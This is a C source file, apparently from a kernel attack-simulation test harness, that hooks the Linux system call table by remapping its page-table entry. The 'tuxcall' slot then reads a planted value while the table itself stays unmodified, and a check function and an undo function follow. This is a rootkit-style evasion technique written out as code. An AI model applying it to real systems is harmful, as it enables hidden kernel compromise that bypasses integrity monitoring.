/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/*
 * Address translation redirection: puts a copy of the system call table behind its address, with an entry of
 * its own, by a change of the tables at level REMAP_LEVEL. The table itself is untouched.
 */
#include "attack.h"
#include "remap.h"

#include <asm/unistd.h>

static unsigned long *word;
static u64 *slot;
static u64 before;

static int attempt(void)
{
	unsigned long *table = (unsigned long *)attack_symbol("sys_call_table");
	unsigned int ends = 0;
	u64 entry;

	if (!table)
		return -ENOENT;
	/* Never implemented, so that nobody misses it meanwhile. */
	word = &table[__NR_tuxcall];
	slot = attack_slot((unsigned long)word, REMAP_LEVEL, &ends);
	/* It is in a large page, which then is split. */
	if (!slot)
		slot = attack_slot((unsigned long)word, ends, NULL);
	before = *slot;
	entry = remap_below(before, word, ends ? ends : REMAP_LEVEL, ends != 0);
	if (!entry)
		return -ENOMEM;
	(void)attack_store(slot, entry);
	attack_flush();
	return 0;
}

static bool effect(void)
{
	attack_detail("sys_call_table[%d] reads 0x%lx", __NR_tuxcall, READ_ONCE(*word));
	return READ_ONCE(*word) == REMAP_PLANTED;
}

static void undo(void)
{
	(void)attack_store(slot, before);
	attack_flush();
}
